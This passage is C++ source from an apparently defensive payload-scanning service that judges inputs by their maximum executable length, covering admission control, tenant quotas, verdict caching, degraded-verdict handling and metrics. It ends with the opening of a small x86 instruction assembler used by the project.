  // Degradation ladder: budget trips and degenerate estimation fall back
  // to the fixed threshold; the verdict is flagged, never silent.
  if (verdict.mel_detail.budget_exhausted) {
    verdict.degraded = true;
    outcome.degrade_reason =
        "decode budget exhausted; MEL is a lower bound, fixed-threshold "
        "fallback applied";
  } else if (!payload.empty() && !config_.detector.fixed_threshold &&
             estimation_degenerate(verdict)) {
    verdict.degraded = true;
    outcome.degrade_reason =
        "parameter estimation degenerate; fixed-threshold fallback applied";
  }
  if (verdict.degraded) {
    verdict.threshold = config_.degraded_threshold;
    verdict.malicious =
        static_cast<double>(verdict.mel) > verdict.threshold ||
        verdict.loop_detected;
  }
  if (truncated_input) {
    verdict.degraded = true;
    if (!outcome.degrade_reason.empty()) outcome.degrade_reason += "; ";
    outcome.degrade_reason +=
        "input truncated upstream; verdict covers a prefix only";
  }

  outcome.elapsed = util::fault::now() - start;
  ++stats_.scans_completed;
  if (verdict.degraded) {
    ++stats_.scans_degraded;
    util::log_info_ctx({.component = "service", .scan_id = scan_id},
                       "degraded verdict: ", outcome.degrade_reason);
  }
  if (verdict.malicious) ++stats_.alarms;
  return outcome;
}

util::StatusOr<std::vector<core::StreamAlert>> ScanService::stream_feed(
    util::ByteView bytes) {
  util::StatusOr<std::vector<core::StreamAlert>> result =
      stream_.try_feed(bytes);
  if (!result.is_ok()) {
    ++stats_.scans_rejected;
    ++stats_.rejects_by_code[static_cast<std::size_t>(result.code())];
    util::log_warn_ctx({.component = "service"},
                       "stream batch refused: ", result.status().to_string());
    return result;
  }
  stats_.alarms += result.value().size();
  return result;
}

std::vector<core::StreamAlert> ScanService::stream_finish() {
  std::vector<core::StreamAlert> alerts = stream_.finish();
  stats_.alarms += alerts.size();
  return alerts;
}

}  // namespace mel::service
