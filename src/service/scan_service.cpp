#include "mel/service/scan_service.hpp"

#include <cmath>
#include <new>
#include <thread>
#include <utility>

#include "mel/util/fault_injection.hpp"
#include "mel/util/logging.hpp"

namespace mel::service {

namespace {

using util::fault::Point;

core::StreamConfig make_stream_config(const ServiceConfig& config) {
  core::StreamConfig stream;
  stream.detector = config.detector;
  stream.window_size = config.window_size;
  stream.overlap = config.overlap;
  stream.keep_window_bytes = config.keep_window_bytes;
  stream.max_buffered_bytes = config.max_buffered_bytes;
  stream.budget = config.budget;
  return stream;
}

/// Mirrors MelDetector::derive_threshold's degenerate-input guard: when
/// the estimate has no statistical basis, the detector falls back to
/// threshold = input size, which can never flag anything. The service
/// turns that silent give-up into an explicit degraded verdict.
bool estimation_degenerate(const core::Verdict& verdict) {
  const auto n = static_cast<std::int64_t>(std::llround(verdict.params.n));
  return n < 1 || verdict.params.p <= 0.0 || verdict.params.p >= 1.0;
}

}  // namespace

util::Status ServiceConfig::validate() const {
  if (util::Status status = detector.validate(); !status.is_ok()) {
    return status;
  }
  for (std::size_t i = 0; i < tenants.size(); ++i) {
    if (util::Status status = tenants[i].validate(); !status.is_ok()) {
      return status;
    }
    for (std::size_t j = 0; j < i; ++j) {
      if (tenants[j].id == tenants[i].id) {
        return util::Status::invalid_config(
            "duplicate tenant id " + std::to_string(tenants[i].id));
      }
      if (tenants[j].name == tenants[i].name) {
        return util::Status::invalid_config("duplicate tenant name \"" +
                                            tenants[i].name + "\"");
      }
    }
  }
  if (!(degraded_threshold >= 0.0)) {  // !(..) also catches NaN.
    return util::Status::invalid_config(
        "ServiceConfig::degraded_threshold must be >= 0; got " +
        std::to_string(degraded_threshold));
  }
  if (budget.deadline.count() < 0) {
    return util::Status::invalid_config(
        "ServiceConfig::budget.deadline must be >= 0");
  }
  if (util::Status status = admission.validate(); !status.is_ok()) {
    return status;
  }
  if (util::Status status = breaker.validate(); !status.is_ok()) {
    return status;
  }
  return make_stream_config(*this).validate();
}

ScanService::ScanService(ServiceConfig config)
    : config_(std::move(config)),
      detector_(std::make_shared<const core::MelDetector>(config_.detector)),
      stream_(make_stream_config(config_)),
      metrics_(config_.metrics ? config_.metrics
                               : std::make_shared<obs::MetricsRegistry>()),
      admission_(config_.admission),
      breaker_(config_.breaker) {
  // The configs were validated by create(); registry construction can
  // only fail on what validate() already rejects, so a failure here is
  // a bug — fall back to an empty registry rather than crash.
  util::StatusOr<std::shared_ptr<TenantRegistry>> tenants =
      TenantRegistry::create(config_.tenants);
  if (tenants.is_ok()) {
    tenants_ = std::move(tenants).take();
  } else {
    util::log_warn_ctx({.component = "service"},
                       "tenant registry rejected validated configs: ",
                       tenants.status().to_string());
    tenants_ = TenantRegistry::create({}).take();
  }
  register_instruments();
  stream_.bind_metrics(*metrics_);
  admission_.bind_metrics(*metrics_);
  breaker_.bind_metrics(*metrics_);
  tenants_->bind_metrics(*metrics_);
  if (config_.verdict_cache) config_.verdict_cache->bind_metrics(*metrics_);
  if (config_.drift_monitor) config_.drift_monitor->bind_metrics(*metrics_);
  lifecycle_.store(ServiceState::kServing, std::memory_order_release);
}

void ScanService::register_instruments() {
  obs::MetricsRegistry& reg = *metrics_;
  inst_.attempted =
      reg.counter("mel_scans_attempted_total", "Scan requests received.");
  inst_.completed = reg.counter("mel_scans_completed_total",
                                "Scans that returned a verdict.");
  inst_.rejected = reg.counter("mel_scans_rejected_total",
                               "Scans refused with a typed error.");
  inst_.degraded = reg.counter("mel_scans_degraded_total",
                               "Verdicts flagged degraded.");
  for (std::size_t i = 0; i < util::kStatusCodeCount; ++i) {
    inst_.by_status[i] = reg.counter(
        "mel_scan_status_total", "Scan results by final status code.",
        "code=\"" +
            std::string(util::status_code_name(
                static_cast<util::StatusCode>(i))) +
            "\"");
  }
  inst_.reason_budget = reg.counter("mel_degrade_reasons_total",
                                    "Degraded verdicts by cause.",
                                    "reason=\"budget_exhausted\"");
  inst_.reason_estimation = reg.counter("mel_degrade_reasons_total",
                                        "Degraded verdicts by cause.",
                                        "reason=\"estimation_degenerate\"");
  inst_.reason_truncated = reg.counter("mel_degrade_reasons_total",
                                       "Degraded verdicts by cause.",
                                       "reason=\"truncated_input\"");
  inst_.verdict_malicious =
      reg.counter("mel_verdicts_total", "Verdicts returned, by decision.",
                  "verdict=\"malicious\"");
  inst_.verdict_benign =
      reg.counter("mel_verdicts_total", "Verdicts returned, by decision.",
                  "verdict=\"benign\"");
  inst_.retries = reg.counter("mel_scan_retries_total",
                              "Per-item retry attempts (batch tier).");
  inst_.mel = reg.histogram("mel_value",
                            "Measured maximum executable length per scan.",
                            obs::mel_value_buckets());
  for (std::size_t i = 0; i < obs::kStageCount; ++i) {
    inst_.stage_latency[i] = reg.histogram(
        "mel_stage_latency_ns", "Per-stage scan latency (nanoseconds).",
        obs::latency_buckets_ns(),
        "stage=\"" +
            std::string(obs::stage_name(static_cast<obs::Stage>(i))) +
            "\"");
  }
  inst_.latency = reg.histogram("mel_scan_latency_ns",
                                "End-to-end scan latency (nanoseconds).",
                                obs::latency_buckets_ns());
}

util::StatusOr<ScanService> ScanService::create(ServiceConfig config) {
  if (util::Status status = config.validate(); !status.is_ok()) {
    return status;
  }
  return ScanService(std::move(config));
}

util::Status ScanService::reject(std::uint64_t scan_id,
                                 util::Status status) const {
  return reject(scan_id, std::move(status), nullptr);
}

util::Status ScanService::reject(std::uint64_t scan_id, util::Status status,
                                 const TenantEntry* tenant) const {
  // Every retryable refusal leaves with a retry-after hint: callers (and
  // RetrySchedule) treat it as the earliest useful retry time.
  if (util::is_retryable(status) && status.retry_after().count() == 0) {
    status.set_retry_after(config_.admission.retry_after_hint);
  }
  ++stats_.scans_rejected;
  ++stats_.rejects_by_code[static_cast<std::size_t>(status.code())];
  inst_.rejected.inc();
  inst_.by_status[static_cast<std::size_t>(status.code())].inc();
  if (tenant != nullptr) tenant->record_rejected();
  util::log_warn_ctx({.component = "service", .scan_id = scan_id},
                     "scan rejected: ", status.to_string());
  return status;
}

util::StatusOr<ScanReport> ScanService::scan(const ScanRequest& request) const {
  // Deterministic fault scope first: every firing decision below (clock
  // skew, alloc failure, truncation) keys off the item sequence.
  std::optional<util::fault::ScanScope> scope;
  if (request.fault_sequence) scope.emplace(*request.fault_sequence);

  const std::uint64_t scan_id =
      next_scan_id_.fetch_add(1, std::memory_order_relaxed);
  ++stats_.scans_attempted;
  inst_.attempted.inc();
  const auto start = util::fault::now();

  // Tenant resolution ahead of every gate: an unknown tenant is a
  // malformed request and must not consume admission tokens.
  const TenantEntry* tenant = nullptr;
  if (request.tenant != kDefaultTenant) {
    tenant = tenants_->find(request.tenant);
    if (tenant == nullptr) {
      return reject(scan_id,
                    util::Status::invalid_argument(
                        "unknown tenant id " +
                        std::to_string(request.tenant)));
    }
    tenant->record_scan();
  }

  // Admission before the lifecycle gate: the in-flight permit is what
  // drain() waits on, so a scan that saw kServing is always covered.
  util::StatusOr<AdmissionController::Permit> permit = admission_.try_admit();
  if (!permit.is_ok()) {
    return reject(scan_id, permit.status(), tenant);
  }
  const ServiceState lifecycle = lifecycle_.load(std::memory_order_acquire);
  if (lifecycle != ServiceState::kServing) {
    return reject(scan_id,
                  util::Status::unavailable(
                      "service " + std::string(service_state_name(lifecycle)) +
                      ", not accepting scans"),
                  tenant);
  }
  // The tenant's own quota, after the service-wide gate (service health
  // dominates) and before the breaker (a tenant over quota says nothing
  // about the scan path's health).
  std::optional<AdmissionController::Permit> tenant_permit;
  if (tenant != nullptr) {
    util::StatusOr<AdmissionController::Permit> quota =
        tenant->admission().try_admit();
    if (!quota.is_ok()) {
      tenant->record_shed();
      return reject(scan_id, quota.status(), tenant);
    }
    tenant_permit.emplace(std::move(quota).take());
  }
  if (util::Status gate = breaker_.try_acquire(); !gate.is_ok()) {
    return reject(scan_id, std::move(gate), tenant);
  }

  util::StatusOr<ScanReport> result =
      scan_admitted(request, scan_id, start, tenant);
  bool failure;
  if (result.is_ok()) {
    failure =
        config_.breaker.degraded_is_failure && result.value().verdict.degraded;
  } else {
    // Server faults trip the breaker; client errors (payload cap,
    // malformed requests) say nothing about the scan path's health.
    switch (result.code()) {
      case util::StatusCode::kResourceExhausted:
      case util::StatusCode::kDeadlineExceeded:
      case util::StatusCode::kInternal:
        failure = true;
        break;
      default:
        failure = false;
        break;
    }
  }
  breaker_.record(!failure);
  return result;
}

util::Status ScanService::admit_screened(TenantId tenant_id) const {
  // Mirrors scan()'s gate order exactly (tenant resolution -> service
  // admission -> lifecycle -> tenant quota) so a screened refusal is
  // byte-identical in type and message to what a scan would have
  // returned; failures route through reject() for the same retry-after
  // hints and per-code accounting.
  const std::uint64_t scan_id =
      next_scan_id_.fetch_add(1, std::memory_order_relaxed);
  const TenantEntry* tenant = nullptr;
  if (tenant_id != kDefaultTenant) {
    tenant = tenants_->find(tenant_id);
    if (tenant == nullptr) {
      return reject(scan_id,
                    util::Status::invalid_argument(
                        "unknown tenant id " + std::to_string(tenant_id)));
    }
    tenant->record_scan();
  }
  util::StatusOr<AdmissionController::Permit> permit = admission_.try_admit();
  if (!permit.is_ok()) {
    return reject(scan_id, permit.status(), tenant);
  }
  const ServiceState lifecycle = lifecycle_.load(std::memory_order_acquire);
  if (lifecycle != ServiceState::kServing) {
    return reject(scan_id,
                  util::Status::unavailable(
                      "service " + std::string(service_state_name(lifecycle)) +
                      ", not accepting scans"),
                  tenant);
  }
  if (tenant != nullptr) {
    util::StatusOr<AdmissionController::Permit> quota =
        tenant->admission().try_admit();
    if (!quota.is_ok()) {
      tenant->record_shed();
      return reject(scan_id, quota.status(), tenant);
    }
  }
  return util::Status::ok();
}

util::StatusOr<ScanReport> ScanService::scan_admitted(
    const ScanRequest& request, std::uint64_t scan_id,
    std::chrono::steady_clock::time_point start,
    const TenantEntry* tenant) const {
  const util::ByteView payload = request.payload;
  const core::ScanBudget budget =
      request.budget ? *request.budget : config_.budget;
  // Tenant overrides resolved once, up front. A tenant without its own
  // detector serves on the service detector; the degraded fallback
  // threshold follows the same rule.
  const std::shared_ptr<const core::MelDetector> tenant_detector =
      tenant != nullptr ? tenant->detector() : nullptr;
  const double degraded_threshold =
      tenant != nullptr && tenant->config().degraded_threshold
          ? *tenant->config().degraded_threshold
          : config_.degraded_threshold;

  // Chaos hook: a clock that jumps at scan entry must surface as a
  // deadline rejection below, never as a half-trusted verdict.
  if (util::fault::should_fire(Point::kClockSkew)) {
    util::fault::advance_clock(util::fault::time_jump());
  }

  // Absolute defensive ceiling, independent of the configured cap: the
  // estimation pipeline converts byte counts to double and the engines
  // size O(n) tables from them, so a payload past the architectural
  // limit is a malformed request (kInvalidArgument), not merely "too
  // large for this deployment" (kPayloadTooLarge below).
  if (payload.size() > kAbsoluteMaxPayloadBytes) {
    return reject(scan_id,
                  util::Status::invalid_argument(
                      std::to_string(payload.size()) +
                      "-byte payload exceeds the scanner's absolute " +
                      std::to_string(kAbsoluteMaxPayloadBytes) +
                      "-byte limit"),
                  tenant);
  }
  if (config_.max_payload_bytes != 0 &&
      payload.size() > config_.max_payload_bytes) {
    return reject(scan_id,
                  util::Status::payload_too_large(
                      std::to_string(payload.size()) + " bytes > cap " +
                      std::to_string(config_.max_payload_bytes)),
                  tenant);
  }
  const auto deadline = budget.deadline;
  if (deadline.count() > 0 && util::fault::now() - start >= deadline) {
    return reject(scan_id,
                  util::Status::deadline_exceeded(
                      "deadline passed before scanning began"),
                  tenant);
  }

  // Chaos hook: an upstream partial read hands us a cut-short window.
  // The scan proceeds on the prefix but the verdict must say so.
  util::ByteView view = payload;
  bool truncated_input = false;
  if (util::fault::should_fire(Point::kTruncatedWindow) &&
      payload.size() > 1) {
    view = payload.first(payload.size() / 2);
    truncated_input = true;
  }

  // The trace is always collected: its spans feed the stage-latency
  // histograms whether or not the caller asked for a copy.
  obs::ScanTrace trace;
  ScanReport report;
  report.scan_id = scan_id;

  // Content-addressed verdict cache. Eligibility excludes the truncated
  // chaos path (the view is not the payload) and per-request budget
  // overrides (a cached verdict must be a pure function of payload and
  // service config alone). A hit serves the cached verdict through the
  // same accounting tail as a computed one — every verdict-derived
  // series is identical either way.
  persist::VerdictCache* const cache = config_.verdict_cache.get();
  const bool cache_eligible =
      cache != nullptr && !truncated_input && !request.budget.has_value();
  persist::Fingerprint fingerprint;
  bool cache_hit = false;
  if (request.content_fingerprint != nullptr) {
    report.content_fingerprint = *request.content_fingerprint;
  }
  if (cache_eligible) {
    fingerprint = request.content_fingerprint != nullptr
                      ? *request.content_fingerprint
                      : persist::fingerprint_payload(view);
    report.content_fingerprint = fingerprint;
    if (request.tenant != kDefaultTenant) {
      // Partition the cache address space by tenant: a tenant's
      // override detector must never serve (or be served) another
      // tenant's cached verdict for the same bytes. Salting both
      // fingerprint halves keeps shard selection and index hashing on
      // independent tenant-mixed words.
      std::uint64_t salt = request.tenant;
      salt = (salt ^ (salt >> 30)) * 0xBF58476D1CE4E5B9ull;
      salt = (salt ^ (salt >> 27)) * 0x94D049BB133111EBull;
      salt ^= salt >> 31;
      fingerprint.lo ^= salt;
      fingerprint.hi ^= (salt << 32) | (salt >> 32);
    }
    if (std::optional<core::Verdict> cached = cache->lookup(fingerprint)) {
      report.verdict = *cached;
      cache_hit = true;
    }
  }

  // Scans load the detector once and finish on it even if a
  // recalibration swaps the serving detector mid-scan. Tenant override
  // first, service default otherwise.
  const std::shared_ptr<const core::MelDetector> detector =
      tenant_detector != nullptr ? tenant_detector : detector_.load();
  if (!cache_hit) {
    exec::MelScratch local_scratch;
    exec::MelScratch& scratch =
        request.scratch != nullptr ? *request.scratch : local_scratch;
    try {
      if (util::fault::should_fire(Point::kAllocFailure)) {
        throw std::bad_alloc{};
      }
      report.verdict = detector->scan(view, budget, scratch, &trace);
    } catch (const std::bad_alloc&) {
      return reject(scan_id,
                    util::Status::resource_exhausted(
                        "allocation failure during scan"),
                    tenant);
    }
  }

  core::Verdict& verdict = report.verdict;
  if (verdict.mel_detail.deadline_exceeded) {
    // The caller's time budget is gone; a partial answer now helps
    // nobody downstream. (With early exit on, a payload whose partial
    // MEL already cleared tau alarmed before the deadline could trip.)
    return reject(scan_id,
                  util::Status::deadline_exceeded(
                      "scan exceeded its deadline after " +
                      std::to_string(verdict.mel_detail.instructions_decoded) +
                      " decoded instructions"),
                  tenant);
  }

  {
    // Degradation ladder: budget trips and degenerate estimation fall
    // back to the fixed threshold; the verdict is flagged, never silent.
    const obs::ScanTrace::Span span(&trace, obs::Stage::kVerdict);
    if (verdict.mel_detail.budget_exhausted) {
      verdict.degraded = true;
      inst_.reason_budget.inc();
      report.degrade_reason =
          "decode budget exhausted; MEL is a lower bound, fixed-threshold "
          "fallback applied";
    } else if (!payload.empty() && !detector->config().fixed_threshold &&
               estimation_degenerate(verdict)) {
      verdict.degraded = true;
      inst_.reason_estimation.inc();
      report.degrade_reason =
          "parameter estimation degenerate; fixed-threshold fallback applied";
    }
    if (verdict.degraded) {
      verdict.threshold = degraded_threshold;
      verdict.malicious =
          static_cast<double>(verdict.mel) > verdict.threshold ||
          verdict.loop_detected;
    }
    if (truncated_input) {
      verdict.degraded = true;
      inst_.reason_truncated.inc();
      if (!report.degrade_reason.empty()) report.degrade_reason += "; ";
      report.degrade_reason +=
          "input truncated upstream; verdict covers a prefix only";
    }
  }

  report.elapsed = util::fault::now() - start;
  ++stats_.scans_completed;
  inst_.completed.inc();
  inst_.by_status[static_cast<std::size_t>(util::StatusCode::kOk)].inc();
  inst_.mel.observe(verdict.mel);
  (verdict.malicious ? inst_.verdict_malicious : inst_.verdict_benign).inc();
  for (std::size_t i = 0; i < obs::kStageCount; ++i) {
    inst_.stage_latency[i].observe(
        trace.stage_ns(static_cast<obs::Stage>(i)));
  }
  inst_.latency.observe(report.elapsed.count());
  if (verdict.degraded) {
    ++stats_.scans_degraded;
    inst_.degraded.inc();
    util::log_info_ctx({.component = "service", .scan_id = scan_id},
                       "degraded verdict: ", report.degrade_reason);
  }
  if (verdict.malicious) ++stats_.alarms;
  if (tenant != nullptr) tenant->record_completed(verdict.malicious);
  if (request.collect_trace) report.trace = trace.spans();

  // Only clean full-fidelity verdicts enter the cache: degraded verdicts
  // depend on service-level fallback state, and anything else would
  // break the hit==miss bit-identity contract.
  if (cache_eligible && !cache_hit && !verdict.degraded) {
    cache->insert(fingerprint, verdict);
  }
  // Feed the drift monitor last: a window close runs the chi-square test
  // (and possibly the whole recalibration pipeline) inline on this
  // thread, after this scan's own verdict is fully accounted.
  if (config_.drift_monitor && !truncated_input) {
    config_.drift_monitor->observe(view);
  }
  return report;
}

util::Status ScanService::apply_calibration(const core::DetectorConfig& config,
                                            double tau) {
  util::StatusOr<core::MelDetector> detector = core::MelDetector::create(config);
  if (!detector.is_ok()) {
    return detector.status();
  }
  detector_.store(std::make_shared<const core::MelDetector>(
      std::move(detector).take()));
  util::log_info_ctx({.component = "service"},
                     "calibration applied: alpha=", config.alpha,
                     " tau(anchor)=", tau);
  return util::Status::ok();
}

util::Status ScanService::apply_calibration(TenantId tenant,
                                            const core::DetectorConfig& config,
                                            double tau) {
  if (tenant == kDefaultTenant) {
    return apply_calibration(config, tau);
  }
  return tenants_->apply_calibration(tenant, config, tau);
}

util::StatusOr<std::vector<core::StreamAlert>> ScanService::stream_feed(
    util::ByteView bytes) {
  util::StatusOr<std::vector<core::StreamAlert>> result =
      stream_.try_feed(bytes);
  if (!result.is_ok()) {
    ++stats_.scans_rejected;
    ++stats_.rejects_by_code[static_cast<std::size_t>(result.code())];
    inst_.rejected.inc();
    inst_.by_status[static_cast<std::size_t>(result.code())].inc();
    util::log_warn_ctx({.component = "service"},
                       "stream batch refused: ", result.status().to_string());
    return result;
  }
  stats_.alarms += result.value().size();
  return result;
}

std::vector<core::StreamAlert> ScanService::stream_finish() {
  std::vector<core::StreamAlert> alerts = stream_.finish();
  stats_.alarms += alerts.size();
  return alerts;
}

ServiceState ScanService::state() const noexcept {
  const ServiceState lifecycle = lifecycle_.load(std::memory_order_acquire);
  if (lifecycle == ServiceState::kServing && config_.breaker.enabled &&
      breaker_.state() != BreakerState::kClosed) {
    return ServiceState::kDegraded;
  }
  return lifecycle;
}

std::vector<core::StreamAlert> ScanService::drain() {
  ServiceState expected = ServiceState::kServing;
  if (!lifecycle_.compare_exchange_strong(expected, ServiceState::kDraining,
                                          std::memory_order_acq_rel)) {
    return {};  // Already draining/drained (or never started serving).
  }
  util::log_info_ctx({.component = "service"}, "drain: refusing new scans");
  // Every admitted scan holds an in-flight permit until its report is
  // delivered; scans admitted after the store above observe kDraining
  // and reject. Scans are short (deadline-bounded), so spin politely.
  while (admission_.in_flight() != 0) {
    std::this_thread::yield();
  }
  std::vector<core::StreamAlert> alerts = stream_finish();
  lifecycle_.store(ServiceState::kStopped, std::memory_order_release);
  util::log_info_ctx({.component = "service"},
                     "drain complete: ", alerts.size(),
                     " alert(s) from the buffered stream tail");
  return alerts;
}

}  // namespace mel::service
