#include "mel/service/tenant.hpp"

#include <utility>

#include "mel/util/logging.hpp"

namespace mel::service {

bool is_valid_tenant_name(const std::string& name) noexcept {
  if (name.empty() || name.size() > 64) return false;
  for (const char c : name) {
    const bool ok = (c >= 'a' && c <= 'z') || (c >= '0' && c <= '9') ||
                    c == '_' || c == '-';
    if (!ok) return false;
  }
  return true;
}

util::Status TenantConfig::validate() const {
  if (id == kDefaultTenant) {
    return util::Status::invalid_config(
        "TenantConfig::id must not be kDefaultTenant (0): the default "
        "tenant is the service itself and has no registry entry");
  }
  if (!is_valid_tenant_name(name)) {
    return util::Status::invalid_config(
        "TenantConfig::name must be 1..64 chars of [a-z0-9_-]; got \"" +
        util::escape_log_field(name) + "\"");
  }
  if (detector) {
    if (util::Status status = detector->validate(); !status.is_ok()) {
      return status;
    }
  }
  if (degraded_threshold && !(*degraded_threshold >= 0.0)) {
    return util::Status::invalid_config(
        "TenantConfig::degraded_threshold must be >= 0 for tenant \"" + name +
        "\"");
  }
  return admission.validate();
}

TenantEntry::TenantEntry(TenantConfig config)
    : config_(std::move(config)), admission_(config_.admission) {}

util::StatusOr<std::shared_ptr<TenantRegistry>> TenantRegistry::create(
    std::vector<TenantConfig> configs) {
  auto registry = std::shared_ptr<TenantRegistry>(new TenantRegistry());
  registry->ordered_.reserve(configs.size());
  for (TenantConfig& config : configs) {
    if (util::Status status = config.validate(); !status.is_ok()) {
      return status;
    }
    if (registry->entries_.contains(config.id)) {
      return util::Status::invalid_config(
          "duplicate tenant id " + std::to_string(config.id));
    }
    for (const TenantEntry* existing : registry->ordered_) {
      if (existing->config().name == config.name) {
        return util::Status::invalid_config("duplicate tenant name \"" +
                                            config.name + "\"");
      }
    }
    auto entry = std::make_unique<TenantEntry>(std::move(config));
    if (entry->config().detector) {
      // Build the override detector now: a config that cannot serve is
      // a construction-time error, not a per-scan one.
      util::StatusOr<core::MelDetector> detector =
          core::MelDetector::create(*entry->config().detector);
      if (!detector.is_ok()) {
        return detector.status();
      }
      entry->detector_.store(std::make_shared<const core::MelDetector>(
          std::move(detector).take()));
    }
    TenantEntry* raw = entry.get();
    registry->entries_.emplace(raw->config().id, std::move(entry));
    registry->ordered_.push_back(raw);
  }
  return registry;
}

const TenantEntry* TenantRegistry::find(TenantId id) const noexcept {
  const auto it = entries_.find(id);
  return it == entries_.end() ? nullptr : it->second.get();
}

void TenantRegistry::bind_metrics(obs::MetricsRegistry& registry) {
  for (TenantEntry* entry : ordered_) {
    const std::string label = "tenant=\"" + entry->config().name + "\"";
    entry->scans_counter_ = registry.counter(
        "mel_tenant_scans_total", "Scan requests received, by tenant.",
        label);
    entry->completed_counter_ =
        registry.counter("mel_tenant_scans_completed_total",
                         "Scans that returned a verdict, by tenant.", label);
    entry->rejected_counter_ = registry.counter(
        "mel_tenant_scans_rejected_total",
        "Scans refused with a typed error, by tenant.", label);
    entry->shed_counter_ = registry.counter(
        "mel_tenant_admission_shed_total",
        "Scans shed by the tenant's own admission quota.", label);
    entry->malicious_counter_ = registry.counter(
        "mel_tenant_verdicts_total", "Verdicts by tenant and decision.",
        label + ",verdict=\"malicious\"");
    entry->benign_counter_ = registry.counter(
        "mel_tenant_verdicts_total", "Verdicts by tenant and decision.",
        label + ",verdict=\"benign\"");
    entry->admission_.bind_metrics(registry,
                                   "mel_tenant_admission_" +
                                       entry->config().name);
  }
}

util::Status TenantRegistry::apply_calibration(
    TenantId tenant, const core::DetectorConfig& config, double tau) {
  const auto it = entries_.find(tenant);
  if (it == entries_.end()) {
    return util::Status::invalid_argument(
        "apply_calibration: unknown tenant id " + std::to_string(tenant));
  }
  util::StatusOr<core::MelDetector> detector =
      core::MelDetector::create(config);
  if (!detector.is_ok()) {
    return detector.status();
  }
  it->second->detector_.store(std::make_shared<const core::MelDetector>(
      std::move(detector).take()));
  util::log_info_ctx({.component = "service"},
                     "tenant calibration applied: tenant=",
                     it->second->config().name, " alpha=", config.alpha,
                     " tau(anchor)=", tau);
  return util::Status::ok();
}

}  // namespace mel::service
