#include "mel/disasm/assembler.hpp"

#include <cassert>

namespace mel::disasm {

namespace {

std::uint8_t reg_index(Gpr reg) {
  const auto index = static_cast<std::uint8_t>(reg);
  assert(index < 8);
  return index;
}

/// mod=3 register-direct ModR/M byte.
std::uint8_t modrm_reg(std::uint8_t reg_field, std::uint8_t rm_field) {
  return static_cast<std::uint8_t>(0xC0 | (reg_field << 3) | rm_field);
}

/// mod=0 memory [base] ModR/M byte. Preconditions: base not ESP/EBP
/// (those need SIB/disp forms, which the corpus does not use).
std::uint8_t modrm_mem(std::uint8_t reg_field, Gpr base) {
  const std::uint8_t rm = reg_index(base);
  assert(rm != 4 && rm != 5 && "use SIB/disp forms for esp/ebp bases");
  return static_cast<std::uint8_t>((reg_field << 3) | rm);
}

}  // namespace

Assembler::Label Assembler::make_label() {
  label_positions_.push_back(-1);
  return Label{label_positions_.size() - 1};
}

Assembler& Assembler::bind(Label label) {
  assert(label.id < label_positions_.size());
  assert(label_positions_[label.id] < 0 && "label already bound");
  label_positions_[label.id] = static_cast<std::ptrdiff_t>(code_.size());
  return *this;
}

void Assembler::reference(Label label, FixupKind kind) {
  assert(label.id < label_positions_.size());
  fixups_.push_back(Fixup{code_.size(), kind, label.id});
  if (kind == FixupKind::kRel8) {
    emit8(0);
  } else {
    emit32(0);
  }
}

Assembler& Assembler::mov_imm(Gpr dst, std::uint32_t imm) {
  emit8(static_cast<std::uint8_t>(0xB8 + reg_index(dst)));
  emit32(imm);
  return *this;
}

Assembler& Assembler::mov_imm8(Gpr reg8, std::uint8_t imm) {
  emit8(static_cast<std::uint8_t>(0xB0 + reg_index(reg8)));
  emit8(imm);
  return *this;
}

Assembler& Assembler::mov(Gpr dst, Gpr src) {
  emit8(0x89);
  emit8(modrm_reg(reg_index(src), reg_index(dst)));
  return *this;
}

Assembler& Assembler::mov_to_mem(Gpr base, Gpr src) {
  emit8(0x89);
  emit8(modrm_mem(reg_index(src), base));
  return *this;
}

Assembler& Assembler::mov_from_mem(Gpr dst, Gpr base) {
  emit8(0x8B);
  emit8(modrm_mem(reg_index(dst), base));
  return *this;
}

Assembler& Assembler::lea(Gpr dst, Gpr base, std::int8_t disp) {
  emit8(0x8D);
  const std::uint8_t rm = reg_index(base);
  assert(rm != 4 && "lea from esp needs a SIB byte");
  emit8(static_cast<std::uint8_t>(0x40 | (reg_index(dst) << 3) | rm));
  emit8(static_cast<std::uint8_t>(disp));
  return *this;
}

Assembler& Assembler::xchg(Gpr a, Gpr b) {
  if (a == Gpr::kEax) {
    emit8(static_cast<std::uint8_t>(0x90 + reg_index(b)));
  } else if (b == Gpr::kEax) {
    emit8(static_cast<std::uint8_t>(0x90 + reg_index(a)));
  } else {
    emit8(0x87);
    emit8(modrm_reg(reg_index(b), reg_index(a)));
  }
  return *this;
}

Assembler& Assembler::xor_(Gpr dst, Gpr src) {
  emit8(0x31);
  emit8(modrm_reg(reg_index(src), reg_index(dst)));
  return *this;
}

Assembler& Assembler::and_imm(Gpr dst, std::uint32_t imm) {
  if (dst == Gpr::kEax) {
    emit8(0x25);
  } else {
    emit8(0x81);
    emit8(modrm_reg(4, reg_index(dst)));
  }
  emit32(imm);
  return *this;
}

Assembler& Assembler::sub_imm(Gpr dst, std::uint32_t imm) {
  if (dst == Gpr::kEax) {
    emit8(0x2D);
  } else {
    emit8(0x81);
    emit8(modrm_reg(5, reg_index(dst)));
  }
  emit32(imm);
  return *this;
}

Assembler& Assembler::add_imm(Gpr dst, std::uint32_t imm) {
  if (dst == Gpr::kEax) {
    emit8(0x05);
  } else {
    emit8(0x81);
    emit8(modrm_reg(0, reg_index(dst)));
  }
  emit32(imm);
  return *this;
}

Assembler& Assembler::inc(Gpr reg) {
  emit8(static_cast<std::uint8_t>(0x40 + reg_index(reg)));
  return *this;
}

Assembler& Assembler::dec(Gpr reg) {
  emit8(static_cast<std::uint8_t>(0x48 + reg_index(reg)));
  return *this;
}

Assembler& Assembler::cmp_imm8(Gpr reg8, std::uint8_t imm) {
  emit8(0x80);
  emit8(modrm_reg(7, reg_index(reg8)));
  emit8(imm);
  return *this;
}

Assembler& Assembler::push(Gpr reg) {
  emit8(static_cast<std::uint8_t>(0x50 + reg_index(reg)));
  return *this;
}

Assembler& Assembler::pop(Gpr reg) {
  emit8(static_cast<std::uint8_t>(0x58 + reg_index(reg)));
  return *this;
}

Assembler& Assembler::push_imm32(std::uint32_t imm) {
  emit8(0x68);
  emit32(imm);
  return *this;
}

Assembler& Assembler::push_imm8(std::int8_t imm) {
  emit8(0x6A);
  emit8(static_cast<std::uint8_t>(imm));
  return *this;
}

Assembler& Assembler::jmp(Label target) {
  emit8(0xEB);
  reference(target, FixupKind::kRel8);
  return *this;
}

Assembler& Assembler::jcc(Cond cond, Label target) {
  emit8(static_cast<std::uint8_t>(0x70 + static_cast<std::uint8_t>(cond)));
  reference(target, FixupKind::kRel8);
  return *this;
}

Assembler& Assembler::loop_(Label target) {
  emit8(0xE2);
  reference(target, FixupKind::kRel8);
